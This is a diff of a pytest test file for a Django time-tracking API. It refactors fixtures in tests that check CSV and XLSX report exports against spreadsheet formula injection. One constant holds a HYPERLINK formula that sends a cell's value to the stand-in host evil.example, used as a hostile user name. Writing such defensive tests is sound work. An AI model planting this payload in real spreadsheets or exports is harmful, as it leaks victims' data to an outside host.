@@ -27,23 +27,13 @@ TIME = "/api/v1/reports/time"
 OVERTIME = "/api/v1/reports/overtime"
 EXPORTS = "/api/v1/exports"
 EVIL = '=HYPERLINK("http://evil.example/?leak="&B2,"Dave")'
-NOW = datetime(2026, 11, 26, 12, 0, tzinfo=UTC)
+pytestmark = pytest.mark.usefixtures("media_in_tmp")
 
 
 @pytest.fixture
-def frozen():
-    with time_machine.travel(NOW, tick=False) as traveller:
-        yield traveller
-
-
-@pytest.fixture(autouse=True)
-def _media(settings, tmp_path):
-    settings.MEDIA_ROOT = tmp_path
-
-
-@pytest.fixture
-def acme(db):
-    return Project.objects.create(name="Acme website", code="ACME", hourly_rate=Decimal("90"))
+def acme_at_90(make_project):
+    """A client-less "Acme website" (ACME) at 90 an hour."""
+    return make_project(code="ACME", name="Acme website", hourly_rate=Decimal("90"))
 
 
 def worked(user, project, day: int, hours: int = 2) -> TimeEntry:
@@ -66,11 +56,13 @@ def xlsx_rows(response):
 # --- item 2: formula injection in exports ------------------------------------------------------
 
 
-def test_item02_a_formula_name_is_plain_text_in_csv_and_xlsx_downloads(api, alice, carol, acme, frozen):
+def test_item02_a_formula_name_is_plain_text_in_csv_and_xlsx_downloads(
+    api, alice, carol, acme_at_90, frozen_2026_11_26
+):
     response = api(alice).patch("/api/v1/users/me", {"first_name": EVIL, "last_name": ""}, format="json")
     assert response.status_code == 200, response.json()
     assert response.json()["first_name"] == EVIL  # the API keeps the name as it was given
-    worked(alice, acme, 4)
+    worked(alice, acme_at_90, 4)
     query = {"from": "2026-11-01", "to": "2026-11-30", "group_by": "user"}
 
     as_json = api(carol).get(TIME, query).json()
@@ -85,7 +77,7 @@ def test_item02_a_formula_name_is_plain_text_in_csv_and_xlsx_downloads(api, alic
 
 
 @pytest.mark.parametrize("trigger", ["=", "+", "-", "@", "\t", "\r"])
-def test_item02_every_formula_trigger_is_neutralised(api, alice, carol, frozen, trigger):
+def test_item02_every_formula_trigger_is_neutralised(api, alice, carol, frozen_2026_11_26, trigger):
     # A project name: person names lose leading white space in reports (str(user) strips).
     project = Project.objects.create(name=f"{trigger}1+2", code="EVIL")
     worked(alice, project, 4)
@@ -97,10 +89,10 @@ def test_item02_every_formula_trigger_is_neutralised(api, alice, carol, frozen, 
     assert (cell.data_type, cell.value) == ("s", f"'{trigger}1+2".replace("\r", "\n"))
 
 
-def test_item02_negative_numbers_stay_numbers(api, alice, carol, acme, frozen):
+def test_item02_negative_numbers_stay_numbers(api, alice, carol, acme_at_90, frozen_2026_11_26):
     alice.first_name, alice.last_name = "-Alice", ""
     alice.save(update_fields=["first_name", "last_name"])
-    worked(alice, acme, 2)  # far below the week's 40 expected hours: negative differences
+    worked(alice, acme_at_90, 2)  # far below the week's 40 expected hours: negative differences
     query = {"from": "2026-11-02", "to": "2026-11-08", "user": alice.pk}
 
     lines = csv_rows(api(carol).get(OVERTIME, {**query, "format": "csv"}))
@@ -112,10 +104,10 @@ def test_item02_negative_numbers_stay_numbers(api, alice, carol, acme, frozen):
     assert [(cell.data_type, cell.value) for cell in row[6:]] == [("n", -38), ("n", -38)]
 
 
-def test_item02_text_that_looks_like_an_error_code_stays_a_string(api, alice, carol, acme, frozen):
+def test_item02_text_that_looks_like_an_error_code_stays_a_string(api, alice, carol, acme_at_90, frozen_2026_11_26):
     alice.first_name, alice.last_name = "#N/A", ""
     alice.save(update_fields=["first_name", "last_name"])
-    worked(alice, acme, 4)
+    worked(alice, acme_at_90, 4)
 
     response = api(carol).get(TIME, {"from": "2026-11-01", "to": "2026-11-30", "group_by": "user", "format": "xlsx"})
 
@@ -123,7 +115,7 @@ def test_item02_text_that_looks_like_an_error_code_stays_a_string(api, alice, ca
     assert (row[0].data_type, row[0].value) == ("s", "#N/A")
 
 
-def test_item02_control_characters_in_stored_text_do_not_break_an_xlsx_download(api, alice, carol, frozen):
+def test_item02_control_characters_in_stored_text_do_not_break_an_xlsx_download(api, alice, carol, frozen_2026_11_26):
     # XML 1.0 cannot hold most control characters; openpyxl refused the whole file (a 500).
     project = Project.objects.create(name="=Bell\x07 and escape\x1b", code="CTRL")
     worked(alice, project, 4)
@@ -138,11 +130,11 @@ def test_item02_control_characters_in_stored_text_do_not_break_an_xlsx_download(
 
 @pytest.mark.parametrize("file_format", ["csv", "xlsx"])
 def test_item02_background_exports_neutralise_formulas_too(
-    api, alice, carol, acme, frozen, file_format, django_capture_on_commit_callbacks
+    api, alice, carol, acme_at_90, frozen_2026_11_26, file_format, django_capture_on_commit_callbacks
 ):
     alice.first_name, alice.last_name = EVIL, ""
     alice.save(update_fields=["first_name", "last_name"])
-    worked(alice, acme, 4)
+    worked(alice, acme_at_90, 4)
     client = api(carol)
     body = {
         "report": "time",
@@ -345,8 +337,8 @@ def test_item07_a_background_export_of_the_leave_report_honours_team(
 
 
 @pytest.fixture
-def alices_entry(frozen, alice, acme):
-    return worked(alice, acme, 24)  # Tuesday of this (open) week
+def alices_entry(frozen_2026_11_26, alice, acme_at_90):
+    return worked(alice, acme_at_90, 24)  # Tuesday of this (open) week
 
 
 def test_item07_a_manager_editing_or_deleting_a_reports_entry_is_audited_naming_both(api, alice, bob, alices_entry):
